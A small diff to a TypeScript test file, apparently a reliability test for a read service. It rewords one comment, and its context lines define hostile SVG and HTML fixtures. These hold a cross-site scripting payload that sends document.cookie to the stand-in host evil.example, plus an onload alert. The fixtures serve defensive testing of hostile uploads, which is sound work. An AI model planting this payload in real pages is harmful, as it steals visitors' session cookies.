@@ -6,7 +6,7 @@ import { type ReadService, startReadService, type TestTenant } from '../testing/
 /* Reliability test 51. */
 
 const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
-/** Logged data may be anything, and can match two types at once. */
+/** Logged data can be anything, and can match two types at once. */
 const hostile: Readonly<Record<string, Buffer>> = {
   svg: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
   html: Buffer.from(`<!doctype html><html><body>${script}</body></html>`),
